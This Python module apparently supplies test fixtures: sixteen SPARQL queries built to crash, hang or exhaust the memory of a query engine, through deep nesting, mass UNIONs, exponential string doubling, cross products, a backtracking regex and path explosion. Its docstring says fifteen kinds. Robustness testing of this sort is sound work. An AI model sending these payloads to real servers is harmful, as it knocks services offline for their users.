"""Queries that are sent to bring a server down: fifteen kinds, each by another way.

They are a few kilobytes long or shorter, and need no knowledge of the data. Some end the process
of an engine by their nesting, some never end, some take all memory. Only text is made here.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

__all__ = ["HOSTILE", "Hostile"]


@dataclass(frozen=True)
class Hostile:
    """A hostile query.

    Attributes:
        kind: What it does, in a few words.
        query: Its text.
    """

    kind: str
    query: str


_PRODUCT = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i ."
_TRIPLE = "?s ?p ?o"


def _kinds() -> Iterator[Hostile]:
    yield Hostile("deep parentheses", f"SELECT ({'(' * 6_000}1{')' * 6_000} AS ?x) {{}}")
    yield Hostile("deep groups", f"SELECT * {'{' * 2_500}{_TRIPLE}{'}' * 2_500}")
    yield Hostile(
        "a chain of ||", f"SELECT * {{ {_TRIPLE} FILTER({' || '.join(['?o'] * 9_000)}) }}"
    )
    yield Hostile("20,000 UNIONs", f"SELECT * {{ {' UNION '.join(['{}'] * 20_000)} }}")
    yield Hostile("nested blank nodes", f"SELECT * {{ ?s ?p {'[ ?p ' * 6_000}?o{' ]' * 6_000} }}")
    yield Hostile("a pattern of 1,500", f"SELECT * {{ {_chain(1_500)} }}")
    yield Hostile("a pattern of 900", f"SELECT (COUNT(*) AS ?n) {{ {_chain(900)} }}")
    yield Hostile("string doubling", f"SELECT (STRLEN(?x40) AS ?n) {{ {_doubling(40)} }}")
    yield Hostile("cross product, counted", f"SELECT (COUNT(*) AS ?n) {{ {_PRODUCT} }}")
    yield Hostile("cross product, sorted", f"SELECT * {{ {_PRODUCT} }} ORDER BY ?f ?a LIMIT 1")
    yield Hostile("VALUES, joined", f"SELECT (COUNT(*) AS ?n) {{ {_values(4, 400)} }}")
    yield Hostile(
        "regular expression",
        f"SELECT (COUNT(*) AS ?n) {{ {_PRODUCT} {_doubling(12)} "
        'FILTER(REGEX(CONCAT(STR(?c), ?x12, STR(?i)), "(x+x+)+[^x]{1,40}(.*y){8}$")) }',
    )
    yield Hostile(
        "path explosion",
        "SELECT (COUNT(*) AS ?n) { ?a (<urn:p>|!<urn:p>|^<urn:p>|!^<urn:p>)* ?b . "
        "?b (<urn:p>|!<urn:p>|^<urn:p>|!^<urn:p>)* ?c }",
    )
    yield Hostile("GROUP_CONCAT", f"SELECT (STRLEN(GROUP_CONCAT(STR(?c))) AS ?n) {{ {_PRODUCT} }}")
    yield Hostile(
        "a far OFFSET", f"SELECT * {{ {_PRODUCT} }} ORDER BY ?i OFFSET 1000000000000 LIMIT 1"
    )
    yield Hostile("DISTINCT", f"SELECT (COUNT(DISTINCT *) AS ?n) {{ {_PRODUCT} }}")


def _chain(length: int) -> str:
    """Return triple patterns that each lead on from the one before."""
    return " ".join(f"?v{number} ?p{number} ?v{number + 1} ." for number in range(length))


def _doubling(times: int) -> str:
    """Return assignments whose last string has two to that power characters."""
    steps = (f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(times))
    return " ".join(['BIND("x" AS ?x0)', *steps])


def _values(tables: int, length: int) -> str:
    """Return tables of values that have nothing in common."""
    numbers = " ".join(map(str, range(length)))
    return " ".join(f"VALUES ?v{table} {{ {numbers} }}" for table in range(tables))


HOSTILE = tuple(_kinds())
"""One query of each kind."""
